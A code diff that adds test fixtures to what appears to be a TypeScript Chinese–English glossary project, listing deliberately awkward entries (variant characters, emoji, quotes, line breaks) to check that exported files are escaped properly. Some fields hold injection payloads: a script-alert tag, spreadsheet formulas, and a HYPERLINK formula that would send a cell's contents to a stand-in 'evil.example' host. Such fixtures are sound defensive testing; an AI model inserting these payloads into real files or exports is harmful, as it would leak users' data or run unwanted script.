@@ -56,3 +56,32 @@ export const LVSE: GlossaryTerm = {
 };
 
 export const ALL_TERMS: readonly GlossaryTerm[] = [CHANGZHI, ZHANGDA, LVSE];
+
+/**
+ * Terms whose text breaks careless files: two traditional forms of one simplified word, a headword that a reader of
+ * `#` comments would drop, a tag that opens a quote, formulas, markup, line breaks, emoji, no pinyin, no sense.
+ */
+export const HOSTILE_TERMS: readonly GlossaryTerm[] = [
+  {
+    ...ZHANGDA,
+    id: '台湾|臺灣',
+    simplified: '台湾',
+    traditional: '臺灣',
+    syllables: ['tai2', 'wan1'],
+    senses: ['Taiwan', '=1+1', '@SUM(A1)'],
+    note: '<script>alert(1)</script>\nline "two"',
+    tags: ['"quoted', 'with space'],
+    contexts: [
+      {
+        sentence: '他去过台湾。 😀',
+        alignedEnglish: '-He has been to Taiwan & back',
+        url: 'https://evil.example/a?b=1&c=%222%22',
+        title: '=HYPERLINK("https://evil.example/steal?d="&A2,"Open source")',
+        savedAt: T0,
+      },
+    ],
+  },
+  { ...ZHANGDA, id: '台湾|台灣', simplified: '台湾', traditional: '台灣', syllables: ['tai2', 'wan1'], senses: ['Taiwan (台 form)'], tags: [] },
+  { ...ZHANGDA, id: '#话题|#話題', simplified: '#话题', traditional: '#話題', syllables: [], senses: [], note: '', tags: ['+plus', "'quote"] },
+  { ...ZHANGDA, id: '女儿|女兒', simplified: '女儿', traditional: '女兒', syllables: ['nv3', 'er2'], senses: ['daughter 👧'], note: '', tags: [] },
+];
